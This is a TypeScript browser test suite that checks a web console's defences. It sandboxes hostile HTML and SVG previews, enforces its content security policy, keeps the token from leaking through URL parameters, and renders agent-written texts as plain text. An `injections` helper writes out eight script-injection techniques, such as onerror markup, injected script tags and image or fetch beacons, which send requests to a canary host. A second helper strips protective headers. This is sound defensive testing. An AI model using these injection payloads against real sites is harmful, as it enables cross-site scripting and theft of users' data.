// What the web console does not let happen: previews that reach it, texts that become markup, a page that runs or sends what it should not.
// needs: chromium

import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Frame, Page, Route } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { quiet } from "./support/browser.fixture.ts";
import { complaints, goTo, type OpenConsole, openConsole, signedInPage } from "./support/console.fixture.ts";
import { hostileHtml, hostilePdf, hostilePlaybook, hostileSvg, hostileTexts } from "./support/hostile.fixture.ts";
import { type Outside, outside } from "./support/outside.fixture.ts";
import { ended, plan, run, step, submit, succeeded } from "./support/plan.fixture.ts";
import { put } from "./support/repository.fixture.ts";

const missing = (process.env["KOS_TEST_MISSING"] ?? "").split(",");

describe.skipIf(missing.includes("chromium"))("the console keeps to itself", () => {
  let open: OpenConsole;

  beforeAll(async () => {
    open = await openConsole();
  });

  afterAll(async () => {
    await open?.[Symbol.asyncDispose]();
  });

  /** A run that has written the file. */
  async function wrote(name: string, mediaType: string, text: string): Promise<string> {
    const view = succeeded(await run(open.node, plan([step("one", "artifact.put", { name, media_type: mediaType, text })])));
    return view.plan.plan_id;
  }

  /** The frame of the preview, once it has come. */
  async function previewOf(page: Page, planId: string): Promise<Frame> {
    await goTo(page, `#/runs/${planId}/results`);
    const element = await page.locator("iframe").elementHandle();
    const frame = await element?.contentFrame();
    if (!frame) throw new Error("there is no preview");
    await frame.waitForURL(/\/preview\//);
    await quiet(page);
    return frame;
  }

  test.each([
    { name: "page.html", mediaType: "text/html", content: hostileHtml },
    { name: "picture.svg", mediaType: "image/svg+xml", content: hostileSvg },
  ])(
    "[R94] [R99] a hostile $name is shown from another origin, locked in: it runs nothing, reads nothing, reaches nobody",
    async ({ name, mediaType, content }) => {
      await using canary = await outside();
      await using profile = await open.browser.profile();
      const page = await signedInPage(open.node, profile);
      await page.evaluate("localStorage.setItem('secret', 'stored')");
      await profile.context.addCookies([
        { name: "secret", value: "cookie", url: open.node.url },
        { name: "secret", value: "cookie", url: open.node.url.replace("localhost", "127.0.0.1") },
      ]);
      const frame = await previewOf(page, await wrote(name, mediaType, content(canary.url)));
      expect(new URL(frame.url()).origin).not.toBe(open.node.url);
      expect(new URL(frame.url()).hostname).toBe("127.0.0.1");
      expect(await frame.locator(":root").textContent()).toContain("the content itself");
      expect(await page.locator("iframe").getAttribute("sandbox")).toBe("");
      // What a script there would see, if one ran: the debugger runs this one, the page none of its own.
      expect(await frame.evaluate("origin")).toBe("null");
      for (const attempt of ["localStorage.length", "document.cookie", "parent.document.title", "parent.sessionStorage.length"])
        await expect(frame.evaluate(attempt), attempt).rejects.toThrow(/SecurityError|sandboxed|Blocked a frame/);
      expect(
        await frame.evaluate<string>(`fetch(${JSON.stringify(`${open.node.url}/agent/plan`)}).then(() => "answered", () => "refused")`),
      ).toBe("refused");
      expect(await page.title()).not.toContain("ran");
      expect(await frame.title()).not.toBe("ran");
      expect(canary.arrived).toEqual([]);
    },
  );

  test("[R94] the same page without the node's headers would reach out although the frame is locked", async () => {
    await using canary = await outside();
    await using profile = await open.browser.profile();
    const page = await signedInPage(open.node, profile);
    await page.route(/\/preview\//, unprotected);
    await previewOf(page, await wrote("page.html", "text/html", hostileHtml(canary.url)));
    await reached(canary, ["/img", "/style"]);
    expect(canary.arrived.map(({ path }) => path)).not.toContain("/ran");
  });

  test("[R94] a PDF and an archive are offered for download, not shown", async () => {
    await using canary = await outside();
    await using profile = await open.browser.profile();
    const page = await signedInPage(open.node, profile);
    const base64 = Buffer.from(hostilePdf(canary.url)).toString("base64");
    const view = succeeded(
      await run(open.node, plan([step("one", "artifact.put", { name: "paper.pdf", media_type: "application/pdf", base64 })])),
    );
    await goTo(page, `#/runs/${view.plan.plan_id}/results`);
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download paper.pdf" }).click()]);
    expect(download.suggestedFilename()).toBe("paper.pdf");
    expect(readFileSync(await download.path()).toString("base64")).toBe(base64);
    expect(await page.getByRole("button", { name: "Show paper.pdf" }).count()).toBe(0);
    expect(await page.locator("iframe").count()).toBe(0);
    expect(canary.arrived).toEqual([]);
  });

  test("[R94] the address of a preview is good once, and for nobody else", async () => {
    await using profile = await open.browser.profile();
    const page = await signedInPage(open.node, profile);
    const frame = await previewOf(page, await wrote("note.txt", "text/plain", "a note"));
    const again = await fetch(frame.url());
    expect(again.status).toBe(410);
    expect(await again.text()).not.toContain("a note");
    expect(again.headers.get("set-cookie")).toBeNull();
    const { items } = await open.node.client.call("searchArtifacts", { query: { q: "note.txt" } });
    const stranger = await fetch(`${open.node.url}/artifact/${items[0]?.artifact_id}/preview`, { method: "POST" });
    expect(stranger.status).toBe(401);
  });

  test("[R95] goals, titles, questions, playbooks and Markdown of agents are text in the console, on every page", async () => {
    await using canary = await outside();
    const texts = hostileTexts(canary.url);
    const [first = "", second = ""] = texts;
    put(open.node.data, "playbooks/hostile.yaml", hostilePlaybook(texts));
    const tasks = [
      ...texts.map((title, place) => step(`t${place}`, "flow.sleep", { ms: 1 }, { title })),
      step(
        "md",
        "artifact.put",
        { name: "note.md", media_type: "text/markdown", text: `${texts.join("\n\n")}\n\n![x](${canary.url}/markdown)` },
        { title: second },
      ),
      step("ask", "human.ask", { question: first, choices: [second, "no"] }, { depends_on: ["md"] }),
    ];
    const { plan_id } = await submit(open.node, { plan: plan(tasks, { goal: first }) });
    const made = await submit(open.node, { playbook: "hostile", params: { who: first } });
    await ended(open.node, made.plan_id);
    await using profile = await open.browser.profile();
    const page = await signedInPage(open.node, profile);
    for (const [hash, expected] of [
      ["#/", first],
      ["#/new/hostile", first],
      ["#/runs", first],
      [`#/runs/${plan_id}?task=t1`, second],
      [`#/runs/${plan_id}/log`, first],
    ] as const) {
      await goTo(page, hash);
      await page.getByText(expected).first().waitFor();
      expect(
        await page
          .locator("#root script, #root img, #root iframe, #root meta, #root [onerror], #root [onload], #root a[href^='javascript']")
          .count(),
        hash,
      ).toBe(0);
    }
    expect(await page.getByRole("button", { name: second }).isVisible()).toBe(true);
    const frame = await previewOf(page, plan_id);
    expect(await frame.locator("body").innerText()).toContain(first);
    expect(await frame.locator("script, img, svg, a, iframe").count()).toBe(0);
    expect(canary.arrived).toEqual([]);
    expect(profile.said.filter((line) => line.startsWith("dialog"))).toEqual([]);
  });

  test("[R99] an injected script, style or request does not run in the console, and no policy but its own makes one", async () => {
    await using canary = await outside();
    await using profile = await open.browser.profile();
    const page = await signedInPage(open.node, profile);
    const outcomes = await page.evaluate<readonly string[]>(injections(canary.url));
    await quiet(page);
    expect(outcomes).toEqual(["refused", "refused", "refused", "refused", "refused", "refused", "put in", "refused"]);
    expect(canary.arrived).toEqual([]);
    await page.route(`${open.node.url}/`, unprotected);
    await page.reload();
    await page.getByRole("heading", { name: "What shall be done?" }).waitFor();
    await page.evaluate(injections(canary.url));
    await reached(canary, ["/markup", "/script", "/address", "/timer", "/picture", "/fetch"]);
  });

  test("[R9] no parameter of the address sends the token anywhere else", async () => {
    await using canary = await outside();
    await using profile = await open.browser.profile();
    const page = await signedInPage(open.node, profile);
    const bait = new URLSearchParams({ url: canary.url, gatewayUrl: canary.url, api: canary.url, ws: canary.url.replace("http", "ws") });
    for (const address of [`/?${bait}`, `/?${bait}#/runs?${bait}`, `/#/runs?${bait}`, `/#${canary.url}`, `/#//${canary.address}/x`]) {
      await page.goto(open.node.url + address);
      await page.getByRole("navigation", { name: "Pages" }).waitFor();
      await quiet(page);
    }
    expect(canary.arrived).toEqual([]);
    const hosts = new Set(profile.requests.map((address) => new URL(address).host));
    expect([...hosts]).toEqual([new URL(open.node.url).host]);
    expect(complaints(profile)).toEqual([]);
  });

  test("the page says what the node's own file says: where it frames from", async () => {
    const { content_origin: contentOrigin } = JSON.parse(readFileSync(join(open.node.data, "node.json"), "utf8")) as {
      content_origin: string;
    };
    const policy = (await fetch(open.node.url)).headers.get("content-security-policy") ?? "";
    expect(policy).toContain(`frame-src ${contentOrigin};`);
  });
});

/** The answer without what protects it. */
async function unprotected(route: Route): Promise<void> {
  const response = await route.fetch();
  const { "content-security-policy": _, "x-content-type-options": __, ...headers } = response.headers();
  await route.fulfill({ response, headers });
}

async function reached(canary: Outside, paths: readonly string[]): Promise<void> {
  while (!paths.every((path) => canary.arrived.some((one) => one.path.split("?")[0] === path)))
    await canary.arrivals(canary.arrived.length + 1);
}

/** Eight ways to bring code or a request into a page; each says whether the page refused it or took it in. */
function injections(canary: string): string {
  return `(async () => {
    const tried = async (attempt) => { try { await attempt(); return "put in"; } catch { return "refused"; } };
    const to = (path) => ${JSON.stringify(canary)} + path;
    const code = (path) => "new Image().src = '" + to(path) + "'";
    return [
      await tried(() => { const part = document.createElement("div"); document.body.append(part); part.innerHTML = '<img src="data:," onerror="' + code("/markup") + '">'; }),
      await tried(() => { const part = document.createElement("script"); part.textContent = code("/script"); document.body.append(part); }),
      await tried(() => { const part = document.createElement("script"); part.src = to("/address"); document.body.append(part); }),
      await tried(() => { setTimeout(code("/timer")); }),
      await tried(() => new Worker(to("/worker"))),
      await tried(() => trustedTypes.createPolicy("default", { createHTML: (text) => text })),
      await tried(() => { new Image().src = to("/picture"); }),
      await tried(() => fetch(to("/fetch"), { mode: "no-cors" })),
    ];
  })()`;
}
